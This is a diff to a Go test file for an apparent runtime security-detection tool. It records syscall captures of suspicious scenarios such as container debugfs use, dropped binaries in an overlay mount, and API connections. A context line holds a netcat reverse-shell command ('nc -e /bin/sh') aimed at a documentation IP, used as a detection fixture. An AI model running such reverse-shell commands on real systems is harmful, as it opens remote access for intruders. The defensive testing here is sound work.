@@ -16,6 +16,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -28,7 +29,10 @@ import (
 	"github.com/aeriesec/aerie/probes/state"
 )
 
-var recordCaptures = flag.Bool("record-captures", false, "record testdata/syscall/*.cap with the live probe (root)")
+var (
+	recordCaptures = flag.Bool("record-captures", false, "record testdata/syscall/*.cap with the live probe (root)")
+	recordOnly     = flag.String("record-only", "", "with -record-captures, record only the scenarios whose name matches this regexp")
+)
 
 // endMarker is the argument of the program run after each scenario; its
 // exec record ends the scenario's capture.
@@ -49,6 +53,10 @@ type scenario struct {
 func TestRecordSyscallCaptures(t *testing.T) {
 	if !*recordCaptures {
 		t.Skip("recording syscall captures needs -record-captures (root, BPF)")
+	}
+	only, err := regexp.Compile(*recordOnly)
+	if err != nil {
+		t.Fatalf("parse -record-only: %v", err)
 	}
 	dir := prepareBin(t)
 	p, err := probes.Open(probes.Options{})
@@ -75,6 +83,9 @@ func TestRecordSyscallCaptures(t *testing.T) {
 		}
 	}()
 	for _, sc := range syscallScenarios(dir) {
+		if !only.MatchString(sc.name) {
+			continue
+		}
 		recordScenario(t, dir, sc, recs)
 	}
 }
@@ -90,7 +101,7 @@ func prepareBin(t *testing.T) string {
 	copies := map[string]string{
 		"nginx": "/bin/sh", "systemd-udevd": "/bin/sh", "logrotate": "/bin/sh",
 		"chage": "/bin/cat", "nc": "/bin/true", "true": "/bin/true",
-		"modprobe": self, "gdb": self, "helper": self, "ssh": self, "runc": "/usr/bin/script",
+		"modprobe": self, "gdb": self, "helper": self, "ssh": self, "coredns": self, "runc": "/usr/bin/script",
 	}
 	for name, src := range copies {
 		copyFile(t, src, filepath.Join(dir, name), 0o755)
@@ -104,7 +115,29 @@ func prepareBin(t *testing.T) string {
 		t.Fatalf("create container cgroup: %v", err)
 	}
 	t.Cleanup(func() { os.Remove(cg); os.Remove("/dev/shm/aerie-fixture-true") })
+	mountOverlay(t, filepath.Join(dir, "overlay"))
 	return dir
+}
+
+// mountOverlay mounts an overlay file system at dir/merged the way a
+// container runtime mounts a container's root: the image's files in the
+// read-only lower layer (image-true), a file written at run time in the
+// upper layer (dropped-true).
+func mountOverlay(t *testing.T, dir string) {
+	for _, d := range []string{"lower", "upper", "work", "merged"} {
+		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	copyFile(t, "/bin/true", filepath.Join(dir, "lower", "image-true"), 0o755)
+	merged := filepath.Join(dir, "merged")
+	opts := "lowerdir=" + filepath.Join(dir, "lower") + ",upperdir=" + filepath.Join(dir, "upper") +
+		",workdir=" + filepath.Join(dir, "work")
+	if err := unix.Mount("overlay", merged, "overlay", 0, opts); err != nil {
+		t.Fatalf("mount overlay: %v", err)
+	}
+	t.Cleanup(func() { unix.Unmount(merged, 0) })
+	copyFile(t, "/bin/true", filepath.Join(merged, "dropped-true"), 0o755)
 }
 
 func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
@@ -152,6 +185,7 @@ func syscallScenarios(d string) []scenario {
 		{name: "netcat_exec", script: d + "/nc -e /bin/sh 203.0.113.9 4444"},
 		{name: "netcat_scan", script: d + "/nc -z 203.0.113.9 80"},
 		{name: "container_api_connect", script: h("connect-api"), container: true},
+		{name: "container_coredns_api_connect", script: "AERIE_FIXTURE_HELPER=connect-api " + d + "/coredns", container: true},
 		{name: "container_other_connect", script: h("connect-other"), container: true},
 		{name: "host_api_connect", script: h("connect-api")},
 		{name: "container_packet_socket", script: h("packet"), container: true},
@@ -168,6 +202,11 @@ func syscallScenarios(d string) []scenario {
 		{name: "www_data_terminal_shell", script: "SHELL=/bin/sh setpriv --reuid=33 --regid=33 --clear-groups script -qc 'id' /dev/null >/dev/null"},
 		{name: "root_terminal_shell", script: "SHELL=/bin/sh script -qc 'id' /dev/null >/dev/null"},
 		{name: "container_debugfs", script: "debugfs -R stats /dev/null >/dev/null 2>&1; true", container: true},
+		{name: "container_debugfs_no_caps", script: "setpriv --inh-caps=-all --bounding-set=-all debugfs -R stats /dev/null >/dev/null 2>&1; true", container: true},
+		{name: "host_debugfs", script: "debugfs -R stats /dev/null >/dev/null 2>&1; true"},
+		{name: "container_new_binary", script: d + "/overlay/merged/dropped-true", container: true},
+		{name: "container_image_binary", script: d + "/overlay/merged/image-true", container: true},
+		{name: "host_new_binary", script: d + "/overlay/merged/dropped-true"},
 	}
 }
 
